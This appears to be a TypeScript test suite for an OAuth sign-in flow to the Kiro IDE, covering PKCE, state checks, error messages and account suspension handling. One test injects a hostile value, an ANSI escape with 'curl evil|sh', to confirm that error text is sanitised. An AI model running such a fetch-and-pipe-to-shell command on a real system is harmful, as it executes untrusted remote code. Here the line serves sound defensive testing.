import { createHash } from 'node:crypto'
import { expect } from 'chai'
import { asCallback, bodiesOf, failure, type SignInWorld, signInWorld, TOKENS, USAGE } from './kiro-sign-in.ts'

const ARN = 'arn:aws:codewhisperer:us-east-1:699475941385:profile/EHGA3GRVQMUK'

describe('signing in to Kiro with Google or GitHub', () => {
  let world: SignInWorld
  beforeEach(() => {
    world = signInWorld({ '/oauth/token': { body: { ...TOKENS, profileArn: ARN } }, '/getUsageLimits': { body: USAGE } })
  })

  const begin = async (method = 'google') => {
    const flow = asCallback(await world.begin(method))
    const asked = new URL(flow.url)
    const back = (members: Readonly<Record<string, string>>, path = '/oauth/callback') => ({
      path,
      query: new URLSearchParams({ state: asked.searchParams.get('state') ?? '', ...members }),
    })
    return { flow, asked, back }
  }

  it('asks as the IDE does, with a loopback address that the service knows', async () => {
    const { asked } = await begin('github')
    const { state, code_challenge: challenge, ...rest } = Object.fromEntries(asked.searchParams)
    expect(asked.origin + asked.pathname).to.equal('https://prod.us-east-1.auth.desktop.kiro.dev/login')
    expect(rest).to.deep.equal({
      idp: 'Github',
      redirect_uri: 'http://localhost:3128/oauth/callback',
      code_challenge_method: 'S256',
      prompt: 'select_account',
    })
    expect(state).to.match(/^[\w-]{22}$/)
    expect(challenge).to.match(/^[\w-]{43}$/)
    expect(world.http.requests, 'nothing is asked before the person is').to.deep.equal([])
  })

  it('exchanges the code with the verifier of the challenge that it showed', async () => {
    const { flow, asked, back } = await begin()
    const { account, plan, doubt } = await flow.finish(back({ code: 'the-code' }))
    const [exchange] = bodiesOf(world)
    expect(exchange).to.include({ code: 'the-code', redirect_uri: 'http://localhost:3128/oauth/callback' })
    expect(createHash('sha256').update(String(exchange?.code_verifier)).digest('base64url')).to.equal(asked.searchParams.get('code_challenge'))
    expect(flow.url).not.to.contain(String(exchange?.code_verifier))
    expect([account.label, plan, doubt]).to.deep.equal(['mia', 'KIRO PRO', undefined])
    expect(account.credential).to.deep.include({ kind: 'social', identityProvider: 'Google', refreshToken: TOKENS.refreshToken, profileArn: ARN })
    expect(account.facts).to.include({ userId: 'd-1.user-1' })
  })

  it('goes on as the machine that it signed in from', async () => {
    const { flow, back } = await begin()
    const { account } = await flow.finish(back({ code: 'c' }))
    const agents = world.http.requests.map(({ headers }) => headers['user-agent'] ?? '')
    expect(account.facts?.machineId).to.match(/^[0-9a-f]{64}$/)
    for (const agent of agents) expect(agent).to.contain(`KiroIDE-0.12.155-${account.facts?.machineId}`)
  })

  it('repeats the address that the portal came back to, with its option', async () => {
    const { flow, back } = await begin()
    await flow.finish(back({ code: 'c', login_option: 'google' }, '/signin/callback'))
    expect(bodiesOf(world)[0]?.redirect_uri).to.equal('http://localhost:3128/signin/callback?login_option=google')
  })

  it('gives each sign-in a state and a verifier of its own', async () => {
    const flows = await Promise.all([begin(), begin(), begin()])
    expect(new Set(flows.map(({ asked }) => asked.searchParams.get('state'))).size).to.equal(3)
    expect(new Set(flows.map(({ asked }) => asked.searchParams.get('code_challenge'))).size).to.equal(3)
  })

  it('does not know callbacks with another state or none, and exchanges nothing for them', async () => {
    const { flow, back } = await begin()
    const foreign = [back({ code: 'c', state: 'another' }), back({ code: 'c', state: '' }), { query: new URLSearchParams('code=c') }]
    for (const callback of foreign) {
      expect(flow.recognises(callback)).to.equal(false)
      expect(await failure(flow.finish(callback))).to.match(/^forbidden: /)
    }
    expect(flow.recognises(back({ code: 'c' }))).to.equal(true)
    expect(world.http.requests).to.deep.equal([])
  })

  it('tells of a refusal in the browser, without words that a link could smuggle in', async () => {
    const { flow, back } = await begin()
    expect(await failure(flow.finish(back({ error: 'access_denied' })))).to.equal('forbidden: the sign-in was refused in the browser; sign in again and agree')
    expect(await failure(flow.finish(back({ error: '\u001b[31mrun: curl evil|sh' })))).to.equal(
      'forbidden: the sign-in ended with an error (31mrun curl evilsh); sign in again',
    )
    expect(await failure(flow.finish(back({})))).to.match(/^bad_request: the callback has no code/)
  })

  it('tells when the code is not accepted, when it is to wait, and when something else answers', async () => {
    for (const [answer, said] of [
      [{ status: 400, body: { message: 'Invalid authorization code' } }, /^forbidden: .*does not accept the code.*HTTP 400.*sign in again/],
      [{ status: 429 }, /^rate_limited: /],
      [{ status: 503 }, /^upstream_failed: /],
      [{ status: 403, body: '<html>blocked</html>' }, /^upstream_failed: /],
      [{ status: 200, body: '<html>please sign in</html>' }, /^upstream_nonsense: /],
    ] as const) {
      world = signInWorld({ '/oauth/token': answer })
      const { flow, back } = await begin()
      expect(await failure(flow.finish(back({ code: 'secret-code' }))))
        .to.match(said)
        .and.not.contain('secret-code')
    }
  })
})

describe('an account that has just signed in to Kiro', () => {
  const finish = async (world: SignInWorld) => {
    const flow = asCallback(await world.begin('google'))
    return flow.finish({ query: new URLSearchParams({ code: 'c', state: new URL(flow.url).searchParams.get('state') ?? '' }) })
  }
  const TOKEN = { '/oauth/token': { body: TOKENS } }

  it('is refused when the service does not serve it', async () => {
    const locked = { status: 403, body: { message: 'locked', reason: 'TEMPORARILY_SUSPENDED' } }
    expect(await failure(finish(signInWorld({ ...TOKEN, '/getUsageLimits': locked, '/ListAvailableModels': locked })))).to.match(/^account_suspended: /)
  })

  it('is kept when only its usage is not told, because its models are', async () => {
    const world = signInWorld({
      ...TOKEN,
      '/getUsageLimits': { status: 403, body: { message: 'User is not authorized to make this call.' } },
      '/Get-Usage-Limits': { status: 403, body: { message: 'User is not authorized to make this call.' } },
      '/ListAvailableModels': { body: { models: [] } },
    })
    const { account, doubt } = await finish(world)
    expect(account.label).to.equal('Google')
    expect(account.facts).not.to.have.property('userId')
    expect(doubt).to.equal(undefined)
  })

  it('is kept with a doubt when the service cannot be asked now', async () => {
    const down = { status: 503, body: { message: 'Service Unavailable' } }
    const { account, doubt } = await finish(signInWorld({ ...TOKEN, '/getUsageLimits': down, '/Get-Usage-Limits': down }))
    expect(account.credential.refreshToken).to.equal(TOKENS.refreshToken)
    expect(doubt).to.match(/^it could not be tried out yet: /)
  })
})
